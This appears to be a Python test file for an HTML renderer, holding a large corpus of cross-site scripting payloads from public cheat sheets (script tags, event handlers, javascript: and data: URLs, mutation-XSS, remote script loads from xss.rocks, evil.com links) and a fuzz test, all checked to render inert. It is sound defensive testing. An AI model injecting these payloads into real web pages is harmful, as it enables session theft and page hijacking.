"""XSS corpus: every vector renders into an inert page.

Vectors from the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet and
published mutation-XSS / sanitizer-bypass reports. Each is rendered twice: with no local
files, and with every local file "present" as a real PNG, so images are localized and
their attributes reach the output too.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desk.render import page_body, render_html
from tests.render.inert import assert_body_inert, assert_inert, png_bytes

SVG_B64 = (
    "PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv"
    "MjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg=="
)
XSS_VECTORS = [
    # <script> in every casing and shape
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    # event handlers
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<p style="animation-name:x" onanimationstart="alert(1)">x</p>',
    '<a href="https://www.gov.cn/" onclick="alert(1)">政府网</a>',
    '<img src="https://www.gov.cn/a.png" alt="&quot; onerror=&quot;alert(1)">',
    "<isindex type=image src=1 onerror=alert(1)>",
    # javascript: / vbscript: / data: URLs, with entity, tab and newline obfuscation
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    "<a href=\"javascript:document.location='http://www.google.com/'\">XSS</a>",
    '<a href="JAVASCRIPT&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    f'<img src="data:image/svg+xml;base64,{SVG_B64}" alt="svg">',
    '<a href="https://www.gov.cn@evil.com/">www.gov.cn</a>',
    '<a href="//evil.com/">x</a>',
    '<a href="\\\\evil.com">x</a>',
    '<a href="/\\evil.com">x</a>',
    # svg and math payloads
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    # frames, objects, embeds, meta refresh, base
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)">',
    f'<EMBED SRC="data:image/svg+xml;base64,{SVG_B64}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<BASE HREF="javascript:alert(\'XSS\');//"><a href="a.html">相对链接</a>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<meta charset="x-imap4-modified-utf7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    # style: expression(), url(javascript:), behaviours, @import
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">x</DIV>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TR></TABLE>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    # forms, formaction, srcset
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">X</button></form>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<img srcset="javascript:alert(1) 1x, http://evil.com/x.png 2x" src="https://www.gov.cn/a.png" alt="a">',
    '<picture><source srcset="javascript:alert(1)"><img src="x.png" alt="p"></picture>',
    # template / noscript / comment / CDATA tricks, mutation XSS
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<]]><script>alert(1)</script>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<p><style></p><img src=x onerror=alert(1)></style>",
    "<table><tr><td><svg><p><style><img src=x onerror=alert(1)></style></p></svg></td></tr></table>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # unclosed and broken tags
    "<IMG SRC=\"('XSS')\"",
    '<img src="x',
    '<p style="x:expression(alert(1))" onmouseover=alert(1)>text',
    '<p><a href="https://www.gov.cn/">ok</a><a href="javascript:alert(1)">bad',
    "<a href='https://www.gov.cn/'><a href='javascript:alert(1)'>nested</a></a>",
    '<img src="http://evil.com/x.png?<script>alert(1)</script>" alt="x">',
    "<plaintext><script>alert(1)</script>",
]


def local_png(src: str) -> bytes:
    return png_bytes()


@pytest.mark.parametrize("read_local", [None, local_png], ids=["no-local-files", "local-pngs"])
@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_vector_renders_inert(vector, read_local, whitelist):
    for template, styles in (("portal", 1), ("bare", 0)):
        result = render_html(
            f"<p>前文</p>{vector}<p>后文</p>",
            whitelist=whitelist,
            template=template,
            read_local=read_local,
        )
        assert_inert(result.html, styles=styles)
        assert result.body == page_body(result.html)


def test_the_corpus_is_big_and_distinct():
    assert len(set(XSS_VECTORS)) == len(XSS_VECTORS) >= 60


@pytest.mark.parametrize(
    "page",
    [
        "<p>x</p><script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="https://evil.com/">x</a>',
        '<img src="http://evil.com/a.png">',
        '<iframe src="https://www.gov.cn/"></iframe>',
        "<div>x</div>",
        '<p style="color:red">x</p>',
        '<a href="//evil.com/">x</a>',
    ],
)
def test_the_inertness_check_itself_fails_on_active_bodies(page):
    """The check would catch each of these if the renderer let it through."""
    with pytest.raises(AssertionError):
        assert_body_inert(page)


_TOKENS = st.sampled_from(
    [
        "<script>", "</script>", "<img src=x onerror=alert(1)>", "<a href=", "javascript:",
        "alert(1)", '"', "'", ">", "<", "</", "<!--", "-->", "<![CDATA[", "]]>", "<svg>",
        "<math>", "<style>", "</style>", "<noscript>", "</noscript>", "<p title=\"", "<a",
        " href=\"https://www.gov.cn/\">", " href=//evil.com>", "&#x6A;", "&colon;", "\t",
        "\n", "\x00", "<textarea>", "<template>", "<iframe srcdoc=", "<table>", "<td>",
        "<div style=\"display:none\">", "</div>", "<b>", "正文", " onload=", "<base href=",
        "data:text/html,", "<img src=\"a.png\" alt=", "<meta http-equiv=refresh content=",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(_TOKENS, max_size=30).map("".join))
def test_random_token_soup_renders_inert(soup):
    from desk.links import parse_whitelist

    result = render_html(soup, whitelist=parse_whitelist("gov.cn"), read_local=local_png)
    assert_inert(result.html, styles=1)
